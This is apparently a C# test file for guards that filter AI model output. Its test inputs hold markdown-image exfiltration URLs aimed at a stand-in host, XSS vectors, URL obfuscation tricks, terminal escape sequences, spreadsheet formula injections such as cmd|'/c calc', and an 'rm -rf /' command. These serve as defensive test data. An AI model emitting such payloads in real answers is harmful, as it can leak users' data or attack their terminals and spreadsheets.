using Assay.Serving.Guards;
using static Assay.Serving.Tests.Guards.Judging;

namespace Assay.Serving.Tests.Guards;

public sealed class ExfiltrationGuardTests
{
    const string Hosts = "hosts: [example.org, \"*.good.example\"]";

    static readonly GuardPolicy All = Policy($$"""{ guard: exfiltration, action: rewrite, {{Hosts}} }""");
    static readonly GuardPolicy Unasked = Policy($$"""{ guard: exfiltration, action: rewrite, threshold: 0.9, {{Hosts}} }""");

    [Theory]
    [InlineData("Look: ![chart](https://evil.test/p.png?d=c2VjcmV0) there", "Look: chart there")]
    [InlineData("![a](<https://evil.test/x>)", "a")]
    [InlineData("![a]( https://evil.test/x \"title\")", "a")]
    [InlineData("![a](//evil.test/x)", "a")]
    [InlineData("![a](\\\\evil.test/x)", "a")]
    [InlineData("![a](https:evil.test/x)", "a")]
    [InlineData("![a](https://example.org@evil.test/x)", "a")]
    [InlineData("![a](https://example.org%40evil.test/x)", "a")]
    [InlineData("![a](https://example.org.evil.test/x)", "a")]
    [InlineData("![a](https://evil%2etest/x)", "a")]
    [InlineData("![a](https://еxample.org/x)", "a")]
    [InlineData("![a](&#104;ttps://evil.test/x)", "a")]
    [InlineData("![a](http://2130706433/x)", "a")]
    [InlineData("![a][r] words\n\n[r]: https://evil.test/x?d=1\nmore", "![a][r] words\n\n\nmore")]
    [InlineData("[![alt](https://evil.test/1)](https://evil.test/2)", "alt")]
    [InlineData("[click](javascript:alert(1))", "click")]
    [InlineData("[click](javascript\\:alert(1))", "click")]
    [InlineData("![a](https://shop{}.good.example/x)", "a")]
    [InlineData("[r]: https://example.org)@evil.test/x", "")]
    [InlineData("hi <img src=\"https://evil.test/x\"> there", "hi  there")]
    [InlineData("<img\nsrc=//evil.test/x onerror=alert(1)>", "")]
    [InlineData("<IMG SRC=x OnError = alert(1)>", "")]
    [InlineData("<b onmouseover='go()'>bold</b>", "bold</b>")]
    [InlineData("a<script>fetch('//evil.test')</script>b", "ab")]
    [InlineData("a<script>fetch('//evil.test')", "a")]
    [InlineData("<iframe src=https://example.org></iframe>", "</iframe>")]
    [InlineData("<a href=\"jAvA&#x73;cript:alert(1)\">x</a>", "x</a>")]
    [InlineData("<img srcset='https://example.org/1 1x, https://evil.test/2 2x'>", "")]
    [InlineData("<div style=\"background:url(//evil.test/x)\">t</div>", "t</div>")]
    [InlineData("<svg/onload=alert(1)>", "")]
    [InlineData("<img src=\"https://evil.test/unclosed?d=", "")]
    [InlineData("<img alt=\">\" src=\"//evil.test/x\">", "")]
    [InlineData("<img =\" src=//evil.test/x>", "")]
    [InlineData("<img =\" alt=\">\" src=//evil.test/x>", "")]
    [InlineData("<a ping=\"/a //evil.test/x\" href=/b>t</a>", "t</a>")]
    [InlineData("<i style=\"background:&#117;rl(//evil.test/x)\">t</i>", "t</i>")]
    [InlineData("<i style='background:image-set(\"//evil.test/x\" 1x)'>t</i>", "t</i>")]
    public void What_is_fetched_or_runs_by_itself_goes_and_its_words_stay(string text, string shown) => Assert.Equal(shown, Unasked.Shown(text));

    [Theory]
    [InlineData("[words](https://evil.test/x?d=1)", "words")]
    [InlineData("see https://evil.test/x?d=1, then", "see (link removed), then")]
    [InlineData("see <https://evil.test/x> then", "see (link removed) then")]
    [InlineData("see www.evil.test then", "see (link removed) then")]
    [InlineData("<a href=https://evil.test/>words</a>", "words</a>")]
    [InlineData("data:text/html;base64,PHNjcmlwdD4=", "(link removed)")]
    public void What_waits_for_a_click_goes_when_the_policy_says_so(string text, string shown)
    {
        Assert.Equal(shown, All.Shown(text));
        Assert.NotEqual(0, All.Count(text));
    }

    [Theory]
    [InlineData("![a](https://example.org/x.png) and [b](https://cdn.good.example/x?d=1)")]
    [InlineData("![a](/images/x.png) [b](#part) [c](page.html)")]
    [InlineData("https://example.org/a/b?c=d and <https://www.good.example/>")]
    [InlineData("a < b and c > d; if (x<y) { f(a[i](b)); } list[0]: 5")]
    [InlineData("the data: it shows; note: JavaScript: The Good Parts")]
    [InlineData("[1]: a footnote. [x] done, [ ] open. **bold** `code`")]
    [InlineData("<b>bold</b> <img src=\"/local.png\" alt=\"on = off\"> <a href='https://example.org'>x</a>")]
    public void What_stays_within_is_left_alone(string text)
    {
        Assert.Empty(All.Judge(text).Hits);
        Assert.Equal(text, All.Shown(text));
    }

    [Theory]
    [InlineData("Look: ![chart](https://evil.test/p.png?d=c2VjcmV0) there [a](https://evil.test) and [b](https://example.org/x) end")]
    [InlineData("![a][r] words\n\n[r]: https://evil.test/x?d=1\nmore [![alt](https://evil.test/1)](https://evil.test/2) x")]
    [InlineData("a<script>fetch('//evil.test')</script>b <img src=https://evil.test/x> if a < b or a <c")]
    [InlineData("see https://evil.test/x?d=1, then <https://evil.test/x> then www.evil.test. [open and [nested] text ![un")]
    public void An_answer_in_pieces_shows_what_the_whole_would(string text)
    {
        All.StreamsAsWhole(text);
        Unasked.StreamsAsWhole(text);
    }

    [Theory]
    [InlineData("https://example.org'@evil.test/x")]
    [InlineData("https://example.org)@evil.test/x")]
    [InlineData("www.good.example\"@evil.test/x")]
    [InlineData("https://example.org\\@evil.test/x")]
    public void A_mark_in_a_bare_address_does_not_hide_where_it_leads(string text) => Assert.NotEqual(0, All.Count($"see {text} then"));

    [Fact]
    public void An_address_cut_at_a_limit_is_on_no_list()
    {
        Assert.NotEqual(0, All.Count($"![a]({new string(' ', 5000)}//evil.test/)"));
        foreach (var length in (int[])[4070, 4096, 4100, 8190, 20_000])
        {
            var (letters, tabs) = (new string('1', length), new string('\t', length));
            foreach (var text in (string[])[$"![a](https://example.org:{letters}@evil.test/)", $"![a](<https://example.org{tabs}@evil.test/>)", $"<img src=\"https://example.org{tabs}@evil.test/\">", $"<img src=\"https://example.org{tabs}@evil.test/", $"<img src=\"/{tabs}/evil.test/\">"])
            {
                Assert.NotEqual(0, All.Count(text));
                All.StreamsAsWhole(text);
            }
        }
    }

    [Fact]
    public void Hostile_megabytes_take_their_time_and_no_more() =>
        All.IsQuickOn(Place.Output, "[", "](", "![](", "[a](", "<", "<a ", "<a href=", "http://", "https://example.org/", "www.", "data:", "://", "]: ", "<script", "[[](x)", "a://", "javascript:", "<a b=\">\"", "www.a\"", "](\\", "](%26\\&amp;", "https://a\\@%40&#64;");
}

public sealed class OutputFormGuardTests
{
    [Theory]
    [InlineData("a\u001b[31mred\u001b[0m b", "a\ufffdred\ufffd b")]
    [InlineData("\u001b]0;title\u0007x \u001b]52;c;Y2xpcA==\u001b\\y", "\ufffdx \ufffdy")]
    [InlineData("a\u009b2Jb\bc\0d", "a\ufffdb\ufffdc\ufffdd")]
    [InlineData("tabs\tand\r\nlines stay", "tabs\tand\r\nlines stay")]
    public void Sequences_for_terminals_become_one_mark_and_join_nothing(string text, string shown)
    {
        var policy = Policy("{ guard: terminal, action: rewrite }");
        Assert.Equal(shown, policy.Shown(text));
        policy.StreamsAsWhole(text);
    }

    [Theory]
    [InlineData("a,=HYPERLINK(\"http://evil.test\",\"x\"),b", true)]
    [InlineData("=cmd|'/c calc'!A1", true)]
    [InlineData("name\tsum\n\"@SUM(1+1)*cmd|' /C calc'!A0\"", true)]
    [InlineData("x = f(y); a=b, c = -1\n- a list (with words)\n+1 (212) 555", false)]
    public void Formulas_of_spreadsheets_are_seen(string text, bool seen) => Assert.Equal(seen, Policy("{ guard: formulas, action: annotate }").Count(text) > 0);

    [Fact]
    public void A_formula_becomes_a_text()
    {
        var policy = Policy("{ guard: formulas, action: rewrite }");
        Assert.Equal("a,'=IMPORTXML(\"x\"),b", policy.Shown("a,=IMPORTXML(\"x\"),b"));
        policy.StreamsAsWhole("a,=IMPORTXML(\"x\"),b\n=A1+2\n- words, and - more; @handle");
    }

    [Fact]
    public void Code_is_told_by_its_fence()
    {
        var policy = Policy("{ guard: code, action: redact, languages: [bash, powershell] }");
        Assert.Equal("a\n[code removed]\nb\n```python\nprint()\n```", policy.Shown("a\n```sh\nrm -rf /\n```\nb\n```python\nprint()\n```"));
        Assert.Equal("[code removed]", policy.Shown("#!/usr/bin/env bash\nrm x"));
        Assert.Equal(0, policy.Count("`bash` is a shell. ~~struck~~ #1"));
        policy.StreamsAsWhole("a\n```sh\nrm -rf /\n```\nb\n```python\nprint()\n```\n~~~bash\nx");
        policy.IsQuickOn(Place.Output, "```\n", "`", "#!\n", "~~~bash\n");
    }

    [Fact]
    public void Terminal_and_formula_guards_are_linear()
    {
        Policy("{ guard: terminal, action: log }").IsQuickOn(Place.Output, "\u001b", "\u001b[", "\u001b]", "\u0090a");
        Policy("{ guard: formulas, action: log }").IsQuickOn(Place.Output, "=", ",=", ",=a(", "\"=", " =");
    }
}
